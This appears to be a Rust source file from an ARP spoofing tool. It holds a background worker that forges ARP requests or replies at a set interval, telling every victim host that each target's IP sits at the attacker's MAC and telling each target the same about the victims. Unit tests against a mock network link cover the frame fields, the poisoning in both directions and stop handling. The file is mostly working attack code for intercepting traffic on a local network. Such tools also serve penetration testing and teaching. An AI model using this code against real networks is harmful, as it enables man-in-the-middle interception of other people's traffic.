//! Background poisoning loop
//!
//! A [`SpoofWorker`] repeatedly tells every victim that each target's IP lives
//! at the attacker's MAC, and every target the same about each victim. It runs
//! until the stop channel flips to `true`, checked before every frame, and
//! hands the frames of its last round back to whoever joins it.

use crate::binding::{AddressBinding, AddressList};
use crate::config::{SpoofMode, DEFAULT_INTERVAL};
use crate::stats::SessionStats;
use arpspoof_core::{Link, Packet, Result};
use arpspoof_packet::{ArpPacket, FrameBuilder};
use std::net::Ipv4Addr;
use std::sync::Arc;
use std::time::Duration;
use tokio::sync::watch;
use tokio::time::sleep;
use tracing::{debug, error, trace};

/// Frames sent by the worker during its current round
///
/// Owned by the worker task while it runs and returned through its join
/// handle, so nobody else can look at it before the worker has exited.
#[derive(Debug, Default)]
pub struct OutstandingPackets {
    packets: Vec<Packet>,
}

impl OutstandingPackets {
    pub fn new() -> Self {
        Self::default()
    }

    pub fn push(&mut self, packet: Packet) {
        self.packets.push(packet);
    }

    pub fn len(&self) -> usize {
        self.packets.len()
    }

    pub fn is_empty(&self) -> bool {
        self.packets.is_empty()
    }

    pub fn iter(&self) -> std::slice::Iter<'_, Packet> {
        self.packets.iter()
    }

    /// Drop every recorded frame, returning how many there were
    pub fn clear(&mut self) -> usize {
        let released = self.packets.len();
        self.packets.clear();
        released
    }
}

/// Build one forged frame telling `receiver` that `claimed_ip` is at `attacker.mac`
pub fn forge(
    mode: SpoofMode,
    attacker: &AddressBinding,
    receiver: &AddressBinding,
    claimed_ip: Ipv4Addr,
    interface: &str,
) -> Result<Packet> {
    let arp = match mode {
        SpoofMode::Request => ArpPacket::new_request(attacker.mac, claimed_ip, receiver.ip),
        SpoofMode::Reply => ArpPacket::new_reply(attacker.mac, claimed_ip, receiver.mac, receiver.ip),
    };

    FrameBuilder::new()
        .ethernet(attacker.mac, receiver.mac)
        .arp(arp)
        .build(interface)
}

/// Poisoning task for one session
pub struct SpoofWorker {
    link: Arc<dyn Link>,
    attacker: AddressBinding,
    victims: Arc<AddressList>,
    targets: Arc<AddressList>,
    mode: SpoofMode,
    interval: Duration,
    stats: Arc<SessionStats>,
}

impl SpoofWorker {
    pub fn new(
        link: Arc<dyn Link>,
        attacker: AddressBinding,
        victims: Arc<AddressList>,
        targets: Arc<AddressList>,
    ) -> Self {
        Self {
            link,
            attacker,
            victims,
            targets,
            mode: SpoofMode::default(),
            interval: DEFAULT_INTERVAL,
            stats: Arc::new(SessionStats::default()),
        }
    }

    pub fn with_mode(mut self, mode: SpoofMode) -> Self {
        self.mode = mode;
        self
    }

    /// Pause between rounds; zero means back to back
    pub fn with_interval(mut self, interval: Duration) -> Self {
        self.interval = interval;
        self
    }

    pub fn with_stats(mut self, stats: Arc<SessionStats>) -> Self {
        self.stats = stats;
        self
    }

    /// Run rounds until `stop` reads `true` or its sender goes away
    pub async fn run(self, mut stop: watch::Receiver<bool>) -> OutstandingPackets {
        let mut outstanding = OutstandingPackets::new();

        debug!(
            victims = self.victims.len(),
            targets = self.targets.len(),
            mode = %self.mode,
            interval_ms = self.interval.as_millis() as u64,
            "Spoof worker started"
        );

        loop {
            if *stop.borrow_and_update() {
                break;
            }

            outstanding.clear();
            if !self.round(&mut outstanding, &stop).await {
                break;
            }
            self.stats.increment_rounds();

            tokio::select! {
                changed = stop.changed() => {
                    if changed.is_err() {
                        break;
                    }
                }
                _ = sleep(self.interval) => {}
            }
        }

        debug!(outstanding = outstanding.len(), "Spoof worker stopped");
        outstanding
    }

    /// Send one full N x M batch in both directions
    ///
    /// `stop` is checked before every frame so a large batch cannot delay
    /// the acknowledgment by more than one send. Returns `false` when the
    /// round was cut short.
    async fn round(&self, outstanding: &mut OutstandingPackets, stop: &watch::Receiver<bool>) -> bool {
        let victims_side = self
            .victims
            .iter()
            .flat_map(|victim| self.targets.iter().map(move |target| (victim, target.ip)));
        let targets_side = self
            .targets
            .iter()
            .flat_map(|target| self.victims.iter().map(move |victim| (target, victim.ip)));

        let pairs: Vec<(&AddressBinding, Ipv4Addr)> = victims_side.chain(targets_side).collect();

        for (receiver, claimed_ip) in pairs {
            if *stop.borrow() {
                trace!(sent = outstanding.len(), "Stop requested mid-round");
                return false;
            }
            self.emit(receiver, claimed_ip, outstanding).await;
        }

        true
    }

    async fn emit(
        &self,
        receiver: &AddressBinding,
        claimed_ip: Ipv4Addr,
        outstanding: &mut OutstandingPackets,
    ) {
        let packet = match forge(self.mode, &self.attacker, receiver, claimed_ip, self.link.name()) {
            Ok(packet) => packet,
            Err(e) => {
                error!(receiver = %receiver.ip, claimed = %claimed_ip, error = %e, "Failed to build forged frame");
                self.stats.increment_errors();
                return;
            }
        };

        match self.link.send(&packet).await {
            Ok(()) => {
                trace!(receiver = %receiver.ip, claimed = %claimed_ip, "Sent forged binding");
                self.stats.record_sent(packet.len());
                outstanding.push(packet);
            }
            Err(e) => {
                error!(receiver = %receiver.ip, claimed = %claimed_ip, error = %e, "Failed to send forged frame");
                self.stats.increment_errors();
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::{MockLink, LOCAL_IP, LOCAL_MAC};
    use arpspoof_core::MacAddr;
    use arpspoof_packet::ArpOpcode;

    fn binding(last: u8) -> AddressBinding {
        AddressBinding::new(Ipv4Addr::new(10, 0, 0, last), MacAddr([0, 0, 0, 0, 0, last]))
    }

    fn attacker() -> AddressBinding {
        AddressBinding::new(LOCAL_IP, LOCAL_MAC)
    }

    fn worker(link: Arc<MockLink>, victims: &[u8], targets: &[u8]) -> SpoofWorker {
        let victims: AddressList = victims.iter().map(|&n| binding(n)).collect();
        let targets: AddressList = targets.iter().map(|&n| binding(n)).collect();
        SpoofWorker::new(link, attacker(), Arc::new(victims), Arc::new(targets))
    }

    #[test]
    fn test_forge_reply() {
        let packet = forge(SpoofMode::Reply, &attacker(), &binding(2), Ipv4Addr::new(10, 0, 0, 1), "eth0")
            .unwrap();
        let arp = arpspoof_packet::find_arp(&packet).unwrap();

        assert_eq!(&packet.data()[0..6], binding(2).mac.as_bytes());
        assert_eq!(&packet.data()[6..12], LOCAL_MAC.as_bytes());
        assert_eq!(arp.operation, ArpOpcode::Reply);
        assert_eq!(arp.sender_hw_addr, LOCAL_MAC);
        assert_eq!(arp.sender_proto_addr, Ipv4Addr::new(10, 0, 0, 1));
        assert_eq!(arp.target_hw_addr, binding(2).mac);
        assert_eq!(arp.target_proto_addr, binding(2).ip);
    }

    #[test]
    fn test_forge_request() {
        let packet = forge(SpoofMode::Request, &attacker(), &binding(2), Ipv4Addr::new(10, 0, 0, 1), "eth0")
            .unwrap();
        let arp = arpspoof_packet::find_arp(&packet).unwrap();

        assert_eq!(&packet.data()[0..6], binding(2).mac.as_bytes());
        assert_eq!(arp.operation, ArpOpcode::Request);
        assert_eq!(arp.sender_hw_addr, LOCAL_MAC);
        assert_eq!(arp.sender_proto_addr, Ipv4Addr::new(10, 0, 0, 1));
        assert_eq!(arp.target_proto_addr, binding(2).ip);
    }

    #[tokio::test]
    async fn test_round_poisons_both_directions() {
        let link = Arc::new(MockLink::new());
        let worker = worker(link.clone(), &[1, 2], &[3]);
        let (_stop_tx, stop_rx) = watch::channel(false);
        let mut outstanding = OutstandingPackets::new();

        assert!(worker.round(&mut outstanding, &stop_rx).await);

        let claims: Vec<(MacAddr, Ipv4Addr)> = link
            .forged()
            .into_iter()
            .map(|(dst, arp)| (dst, arp.sender_proto_addr))
            .collect();
        assert_eq!(
            claims,
            vec![
                (binding(1).mac, binding(3).ip),
                (binding(2).mac, binding(3).ip),
                (binding(3).mac, binding(1).ip),
                (binding(3).mac, binding(2).ip),
            ]
        );
        assert_eq!(outstanding.len(), 4);
        assert_eq!(link.count_ops(ArpOpcode::Reply), 4);
    }

    #[tokio::test]
    async fn test_round_counts_failed_sends() {
        let link = Arc::new(MockLink::new().failing_sends());
        let stats = Arc::new(SessionStats::default());
        let worker = worker(link.clone(), &[1, 2], &[3, 4]).with_stats(stats.clone());
        let (_stop_tx, stop_rx) = watch::channel(false);
        let mut outstanding = OutstandingPackets::new();

        assert!(worker.round(&mut outstanding, &stop_rx).await);

        assert!(outstanding.is_empty());
        assert_eq!(stats.snapshot().errors, 8);
        assert_eq!(stats.snapshot().packets_sent, 0);
    }

    #[tokio::test]
    async fn test_run_stops_and_returns_last_round() {
        let link = Arc::new(MockLink::new());
        let stats = Arc::new(SessionStats::default());
        let worker = worker(link.clone(), &[1], &[2, 3])
            .with_mode(SpoofMode::Request)
            .with_interval(Duration::from_secs(3600))
            .with_stats(stats.clone());
        let (stop_tx, stop_rx) = watch::channel(false);

        let handle = tokio::spawn(worker.run(stop_rx));
        while link.forged().len() < 4 {
            tokio::task::yield_now().await;
        }
        stop_tx.send_replace(true);

        let outstanding = handle.await.unwrap();
        assert_eq!(outstanding.len(), 4);
        assert_eq!(link.count_ops(ArpOpcode::Request), 4);
        assert_eq!(stats.snapshot().rounds, 1);
    }

    #[tokio::test]
    async fn test_run_exits_when_stop_sender_dropped() {
        let link = Arc::new(MockLink::new());
        let worker = worker(link, &[1], &[2]).with_interval(Duration::from_secs(3600));
        let (stop_tx, stop_rx) = watch::channel(false);

        let handle = tokio::spawn(worker.run(stop_rx));
        drop(stop_tx);

        // the first round still runs in full, then the closed channel ends the loop
        let outstanding = tokio::time::timeout(Duration::from_secs(5), handle)
            .await
            .unwrap()
            .unwrap();
        assert_eq!(outstanding.len(), 2);
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn test_stop_interrupts_a_long_round() {
        let link = Arc::new(MockLink::new().slow_sends(Duration::from_millis(5)));
        let stats = Arc::new(SessionStats::default());
        let hosts: Vec<u8> = (1..=10).collect();
        let targets: Vec<u8> = (11..=20).collect();
        let worker = worker(link.clone(), &hosts, &targets).with_stats(stats.clone());
        let (stop_tx, stop_rx) = watch::channel(false);

        let handle = tokio::spawn(worker.run(stop_rx));
        tokio::time::sleep(Duration::from_millis(20)).await;
        stop_tx.send_replace(true);

        // a full round is 200 sends of 5 ms each
        let outstanding = tokio::time::timeout(Duration::from_millis(200), handle)
            .await
            .unwrap()
            .unwrap();
        assert!(outstanding.len() < 200);
        assert_eq!(link.sent().len(), outstanding.len());
        assert_eq!(stats.snapshot().rounds, 0);
    }

    #[tokio::test]
    async fn test_run_already_stopped_sends_nothing() {
        let link = Arc::new(MockLink::new());
        let worker = worker(link.clone(), &[1], &[2]);
        let (_stop_tx, stop_rx) = watch::channel(true);

        let outstanding = worker.run(stop_rx).await;

        assert!(outstanding.is_empty());
        assert!(link.sent().is_empty());
    }

    #[test]
    fn test_outstanding_clear() {
        let mut outstanding = OutstandingPackets::new();
        outstanding.push(Packet::new("eth0".to_string(), vec![0; 60]));
        outstanding.push(Packet::new("eth0".to_string(), vec![0; 60]));

        assert_eq!(outstanding.iter().count(), 2);
        assert_eq!(outstanding.clear(), 2);
        assert!(outstanding.is_empty());
    }
}
